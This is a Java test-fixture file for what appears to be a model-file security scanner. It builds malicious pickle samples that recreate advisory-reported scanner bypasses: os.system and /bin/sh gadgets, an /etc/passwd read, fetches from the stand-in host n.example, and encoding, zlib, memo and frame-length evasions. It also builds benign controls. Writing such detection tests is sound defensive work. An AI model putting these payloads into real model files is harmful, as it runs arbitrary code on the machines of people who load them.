package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.list;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.none;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;
import static dev.bartizan.artifacts.PickleParts.tuple;

import dev.bartizan.artifacts.PickleParts.Part;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;

/// Tricks with pickles that public advisories and reports about other scanners tell of, and honest
/// files that look like them. None of their samples is used; each is made here.
final class AdvisoryTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        AdvisoryTrials trials = new AdvisoryTrials();
        trials.gadgets();
        trials.streams();
        trials.honest();
        return trials.all;
    }

    private void malicious(String name, Part part) {
        all.add(Trial.malicious("advisory/" + name, "m.pkl", pickle(part)));
    }

    private void bad(String name, Part part) {
        all.add(Trial.bad("advisory/" + name, "m.pkl", pickle(part)));
    }

    private void benign(String name, Part part) {
        all.add(Trial.benign("advisory/" + name, "m.pkl", pickle(part)));
    }

    /// Functions that block lists lacked (picklescan 2025-2026, modelscan issue 338, fickling
    /// GHSA-m6fh-58r7-x697 and GHSA-6ggj-6f2q-f7mx).
    private void gadgets() {
        malicious(
                "spawnv-passfds",
                call(
                        "multiprocessing.util:spawnv_passfds",
                        bytes(utf8("/bin/sh")),
                        list(text("sh"), text("-c"), text("echo marker")),
                        list()));
        malicious(
                "fork-exec",
                call("_posixsubprocess:fork_exec", list(text("sh")), list(bytes(utf8("/bin/sh")))));
        malicious("subinterpreter", call("_xxsubinterpreters:run_string", number(1), text("x=1")));
        malicious("site-addpackage", call("site:addpackage", text("/tmp"), text("a.pth"), none()));
        bad(
                "mlflow-entry-point",
                call(
                        "mlflow.projects.backend.local:_run_entry_point",
                        text("echo marker"),
                        text(".")));
        bad(
                "read-csv-from-address",
                call("pandas.io.parsers.readers:read_csv", text("https://n.example/?x=1")));
        bad("atexit", call("atexit:register", name("builtins:print"), text("marker")));
        bad("numpy-memmap", call("numpy:memmap", text("/etc/passwd")));
        bad("torch-load", call("torch.serialization:load", text("/tmp/x.pt")));
        bad("torch-jit-load", call("torch.jit._serialization:load", text("/tmp/x.pt")));
        bad(
                "hub-download",
                call("huggingface_hub.file_download:hf_hub_download", text("a/b"), text("c.pkl")));
        bad(
                "distributed-logger",
                call(
                        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler:SubprocessHandler",
                        text("sh")));
        malicious(
                "inductor-compile",
                call(
                        "torch._inductor.codecache:compile_file",
                        text("a.c"),
                        text("a.so"),
                        list(text("sh"))));
        bad("sympy-sympify", call("sympy.core.sympify:sympify", text("__import__('os')")));
        bad("numexpr", call("numexpr.necompiler:evaluate", text("1+1")));
        bad(
                "pandas-query",
                call("pandas.core.frame:DataFrame.query", dict(), text("@__import__('os')")));
        bad("nltk-download", call("nltk.data:load", text("http://n.example/a.pickle")));
        bad("cloudpickle-subimport", call("cloudpickle.cloudpickle:subimport", text("os")));
        bad(
                "str-format-walk",
                call(
                        call("builtins:getattr", text("{0.__globals__[_os]}"), text("format")),
                        name("random:choice")));
    }

    private void streams() {
        byte[] plain = pickle(dict(text("a"), number(1)));
        String mime = Base64.getMimeEncoder(16, utf8("\n")).encodeToString(PAYLOAD);
        bad("base64-in-short-lines", dict(text("w"), text(mime)));
        bad(
                "hex-with-spaces",
                dict(text("w"), text(HexFormat.ofDelimiter(" ").formatHex(PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/pickle-then-zip",
                        "m.pkl",
                        joined(PAYLOAD, Scans.zip(Map.of("a.txt", utf8("a"))))));
        all.add(
                Trial.malicious(
                        "advisory/junk-after-call",
                        "m.bin",
                        joined(
                                java.util.Arrays.copyOf(PAYLOAD, PAYLOAD.length - 1),
                                new byte[] {'X', 1})));
        all.add(
                Trial.malicious(
                        "advisory/memo-replayed",
                        "m.pkl",
                        Pickles.protocol(4)
                                .shortText("os")
                                .op(0x94)
                                .op('0')
                                .shortText("system")
                                .op(0x94)
                                .op('0')
                                .text("pad")
                                .text("pad")
                                .ops("00")
                                .op('h')
                                .op(0)
                                .op('h')
                                .op(1)
                                .op(0x93)
                                .text("id")
                                .op(0x85)
                                .op('R')
                                .stop()));
        all.add(
                Trial.malicious(
                        "advisory/put-number-wide",
                        "m.pkl",
                        Pickles.protocol(2)
                                .text("os")
                                .op('r')
                                .int32(70_000)
                                .op('0')
                                .text("system")
                                .op('j')
                                .int32(70_000)
                                .op('0')
                                .op('0')
                                .op('j')
                                .int32(70_000)
                                .text("system")
                                .op(0x93)
                                .text("id")
                                .op(0x85)
                                .op('R')
                                .stop()));
        all.add(
                Trial.malicious(
                        "advisory/dup-consumed",
                        "m.pkl",
                        Pickles.protocol(2)
                                .global("os", "system")
                                .ops("2")
                                .text("id")
                                .op(0x85)
                                .op('R')
                                .ops("00}.")
                                .bytes()));
        all.add(
                Trial.malicious(
                        "advisory/frame-lies",
                        "m.pkl",
                        Pickles.protocol(4)
                                .op(0x95)
                                .int64(3)
                                .raw(Pickles.protocol(2).call("os", "system", "id").stop())
                                .bytes()));
        all.add(
                Trial.notClean(
                        "advisory/pickle-of-half-a-frame",
                        "m.pkl",
                        Pickles.protocol(4).op(0x95).int64(1 << 20).ops("}").bytes()));
        all.add(Trial.malicious("advisory/zlib-named-pt", "m.pt", zlib(PAYLOAD)));
        all.add(
                Trial.malicious(
                        "advisory/second-zlib-joblib",
                        "m.joblib",
                        joined(zlib(plain), zlib(PAYLOAD))));
        all.add(
                Trial.malicious(
                        "advisory/state-calls",
                        "m.pkl",
                        pickle(built(call("_interpreters:create"), dict(text("a"), number(1))))));
    }

    private static byte[] zlib(byte[] content) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (var deflater = new java.util.zip.DeflaterOutputStream(out)) {
            deflater.write(content);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private void honest() {
        benign("function-by-name", name("numpy:sqrt"));
        benign("read-csv-named", dict(text("loader"), text("pandas.read_csv")));
        benign(
                "text-in-short-lines",
                dict(
                        text("w"),
                        text(
                                Base64.getMimeEncoder(16, utf8("\n"))
                                        .encodeToString(TensorTrials.floats(3, 40)))));
        all.add(
                Trial.benign(
                        "advisory/zlib-of-numbers",
                        "m.joblib",
                        zlib(pickle(list(number(1), number(2))))));
        all.add(
                Trial.benign(
                        "advisory/tar-inner-link",
                        "m.tar",
                        FormatScanTest.tar("latest.bin", '2', "weights.bin", new byte[0])));
        all.add(
                Trial.benign(
                        "onnx/location-beside", "m.onnx", FormatScanTest.onnx("weights.bin", "")));
        benign("nested-containers", list(tuple(number(1), dict(text("k"), list(tuple())))));
    }
}
